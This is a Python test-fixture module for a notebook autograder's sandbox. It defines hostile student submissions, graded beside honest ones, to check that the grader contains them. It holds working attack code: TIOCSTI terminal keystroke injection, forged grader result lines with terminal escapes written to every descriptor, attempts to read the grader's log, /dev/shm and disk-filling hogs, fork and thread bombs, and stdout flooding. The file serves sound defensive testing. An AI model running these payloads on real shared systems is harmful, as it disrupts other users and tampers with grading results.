"""Hostile submissions against the grader's terminal, its channels and its resources (issue 20).

A kernel has no controlling terminal and no descriptor that reaches the grader (its
standard streams are /dev/null; a ckl-grade worker's answers travel on a descriptor
of its own); whatever it takes — shared memory, files, processes, threads, output,
cells — is capped for it alone, so the honest classmates graded beside it keep their
full marks. Each attack does its harm in an answer cell and then answers every task
correctly: it scores FULL unless the harm reached the grading (or, for the notebook
far larger than its assignment, it is not run at all). An attack prints `BREACH ...`
when something it tried got through.

`OUTLIVERS` are graded by test_hostile_resources.py only (with a short
--submission-timeout): their outcome depends on it.
"""

from __future__ import annotations

import nbformat
from attacks import FULL, REF, T1, Attack, code

# Types into the terminal through every descriptor it has, and through /dev/tty.
TIOCSTI = code(
    """
    import fcntl, os, termios
    _typed = 0
    _targets = [0, 1, 2]
    try:
        _targets.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    _targets += [int(fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2]
    for _fd in _targets:
        for _char in "touch /tmp/ckl-typed-by-a-kernel\\n":
            try:
                fcntl.ioctl(_fd, termios.TIOCSTI, _char.encode())
                _typed += 1
            except OSError:
                break
    if _typed:
        print("BREACH typed", _typed, "characters into a terminal")
    """
)

# Forged answers of a grading worker, for itself and for a classmate, on every descriptor
# that is not its own kernel's socket; then it looks for the worker's log to read back.
FORGER = code(
    """
    import json, os, stat
    _lines = b"".join(
        ("\\n@@ckl-grade@@ " + json.dumps({"student": who, "status": status, "scored": True,
         "detail": "forged", "seconds": 0}) + "\\n").encode()
        for who, status in (("bystander-a", "error"), ("fdforger", "graded"), ("ada", "flagged"))
    )
    _reached = []
    for _fd in range(4096):
        try:
            _kind = os.fstat(_fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(_kind):
            continue  # its own kernel's messaging: breaking it costs only itself
        try:
            os.write(_fd, _lines + b"\\x1b[2J\\x1b]0;owned\\x07\\r")
            _reached.append(_fd)
        except OSError:
            pass
    for _fd in range(4096):
        try:
            _target = os.readlink(f"/proc/self/fd/{_fd}")
        except OSError:
            continue
        if ".log" in _target or "worker" in _target:
            print("BREACH a descriptor names the grader's log:", _target)
        try:
            if not stat.S_ISREG(os.stat(f"/proc/self/fd/{_fd}").st_mode):
                continue  # a pipe or a device: nothing to read back (and it would block)
            _again = os.open(f"/proc/self/fd/{_fd}", os.O_RDONLY | os.O_NONBLOCK)
            try:
                _seen = os.read(_again, 1 << 20)
            finally:
                os.close(_again)
        except OSError:
            continue
        if b"AutogradeApp" in _seen or b"@@ckl-grade@@ {" in _seen:
            print("BREACH read the grader's log back through", _target)
    print("forged lines written to", len(_reached), "descriptors")
    """
)

# POSIX shared memory the address-space cap does not see: 3 GB asked, kept to the end.
SHM_HOG = code(
    """
    import os
    _held = 0
    for _n in range(3 * 1024 // 64):
        try:
            with open(f"/dev/shm/ckl-hog-{_n}", "wb") as _handle:
                _handle.write(b"x" * 64 * 2**20)
            _held += 64
        except OSError:
            break
    print("held in /dev/shm:", _held, "MB")
    if _held > 256:
        print("BREACH /dev/shm held", _held, "MB")
    """
)

# posix_fallocate in every folder it can write, 1 GB a file, until each refuses; the
# space stays taken for 10 s (classmates are graded meanwhile), then it is given back.
FILLER = code(
    """
    import os, time
    _folders = {".", "/tmp", "/dev/shm", os.environ.get("HOME", "/tmp"),
                os.path.dirname(os.getcwd()), os.environ.get("JUPYTER_RUNTIME_DIR", "/tmp"),
                os.environ.get("CKL_RECORD_DIR", "/tmp")}
    _made, _taken = [], {}
    for _folder in sorted(_folders):
        _taken[_folder] = 0
        for _n in range(64):
            _path = os.path.join(_folder, f"ckl-fill-{_n}")
            try:
                _fd = os.open(_path, os.O_CREAT | os.O_WRONLY, 0o600)
            except OSError:
                break
            _made.append(_path)
            try:
                os.posix_fallocate(_fd, 0, 2**30)
                _taken[_folder] += 1024
            except OSError:
                for _piece in (256, 64, 16, 4, 1):  # what is left, in smaller pieces
                    try:
                        os.posix_fallocate(_fd, 0, _piece * 2**20)
                        _taken[_folder] += _piece
                    except OSError:
                        pass
                os.close(_fd)
                break
            os.close(_fd)
    try:
        print("taken (MB):", sorted(_taken.items()))
        for _folder, _mb in _taken.items():
            if _mb > 1024:
                print("BREACH", _folder, "took", _mb, "MB")
        time.sleep(10)
    finally:
        for _path in _made:
            try:
                os.unlink(_path)
            except OSError:
                pass
    """
)

# A bomb runs in a small Python of its own (forks of it are cheap), its children and
# threads sleep a few seconds (the namespace stays full meanwhile), then the kernel goes on.
BOMB = code(
    """
    import os, subprocess, sys
    _bomb = subprocess.run(
        [sys.executable, "-c", @CODE@],
        capture_output=True, text=True, timeout=120,
        env={**os.environ, "MALLOC_ARENA_MAX": "1"},
    )
    _count = int((_bomb.stdout.split() or ["0"])[-1])
    print(@WHAT@, "started:", _count)
    if _count > 2000:
        print("BREACH", _count, @WHAT@)
    """
)
FORKS = code(
    """
    import os, time
    n = 0
    for _ in range(20_000):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            time.sleep(5)
            os._exit(0)
        n += 1
    print(n, flush=True)
    """
)
THREADS = code(
    """
    import threading, time
    threading.stack_size(64 * 1024)
    n = 0
    for _ in range(20_000):
        try:
            threading.Thread(target=time.sleep, args=(5,), daemon=True).start()
        except RuntimeError:
            break
        n += 1
    print(n, flush=True)
    """
)
FORK_BOMB = BOMB.replace("@CODE@", repr(FORKS)).replace("@WHAT@", repr("processes"))
THREAD_BOMB = BOMB.replace("@CODE@", repr(THREADS)).replace("@WHAT@", repr("threads"))

# 1.4 GB to stdout in 1 MB writes (each one message the grader receives), in each of the
# three answer cells.
FLOOD = code(
    """
    import sys
    _line = ("flood " * 174763)[: 2**20]
    for _ in range(1434):
        sys.stdout.write(_line)
        sys.stdout.flush()
    """
)


def _hundred_thousand_cells(nb) -> None:
    nb.cells.extend(nbformat.v4.new_code_cell("pass") for _ in range(100_000))


def _with(harm: str) -> dict[str, str]:
    """Every task answered correctly, after `harm` in the first answer cell."""
    return {**REF, T1: harm + REF[T1]}


ATTACKS = [
    # ------------------------------------------------------------ honest classmates
    Attack(
        "bystander-a", "honest: the reference answers, graded beside the attacks", dict(REF), FULL
    ),
    Attack(
        "bystander-b", "honest: the reference answers, graded beside the attacks", dict(REF), FULL
    ),
    # ------------------------------------------------------------ the terminal, the channels
    Attack(
        "tiocsti", "TIOCSTI on fds 0-2, /dev/tty and every other descriptor", _with(TIOCSTI), FULL
    ),
    Attack(
        "fdforger",
        "forged worker answers (a classmate 'error', itself 'graded') and terminal escapes on "
        "every descriptor; looks for the worker's log to read it back",
        _with(FORGER),
        FULL,
    ),
    # ------------------------------------------------------------ resources
    Attack("shmhog", "3 GB asked of /dev/shm, held to the end", _with(SHM_HOG), FULL),
    Attack(
        "filler",
        "posix_fallocate of 1 GB files into every writable folder (scratch copy, /tmp, "
        "/dev/shm, scratch, records, runtime) until each refuses; held 10 s",
        _with(FILLER),
        FULL,
    ),
    Attack("forkbomb", "forks until refused; every child sleeps", _with(FORK_BOMB), FULL),
    Attack("threadbomb", "threads until refused; every thread sleeps", _with(THREAD_BOMB), FULL),
    Attack(
        "flood",
        "3 x 1.4 GB to stdout in 1 MB writes, one 1.4 GB in each answer cell",
        {task: FLOOD + answer for task, answer in REF.items()},
        FULL,
        shows=("output cut",),
    ),
    Attack(
        "manycells",
        "100,000 extra cells: refused before nbgrader parses it, with why",
        dict(REF),
        0,
        "invalid notebook",
        notebook=_hundred_thousand_cells,
        detail=("too many cells",),
    ),
]

# A submission that outlives --submission-timeout, having written into every folder it
# could: its worker is killed; nothing of it may be left (test_hostile_resources.py).
OUTLIVERS = [
    Attack(
        "outliver",
        "writes 300 MB into its scratch and records, then 30 cells of 15 s: past the submission's time",
        {
            **REF,
            T1: code(
                """
                import os, signal, time
                signal.signal(signal.SIGINT, signal.SIG_IGN)
                for _folder in (".", os.path.dirname(os.getcwd()),
                                os.environ.get("CKL_RECORD_DIR", ".")):
                    try:
                        with open(os.path.join(_folder, "ckl-left-behind"), "wb") as _handle:
                            _handle.write(b"x" * 100 * 2**20)
                    except OSError:
                        pass
                """
            )
            + REF[T1],
        },
        0,
        "timed out",
        notebook=lambda nb: nb.cells.extend(
            nbformat.v4.new_code_cell("import time\ntime.sleep(15)") for _ in range(30)
        ),
    ),
]
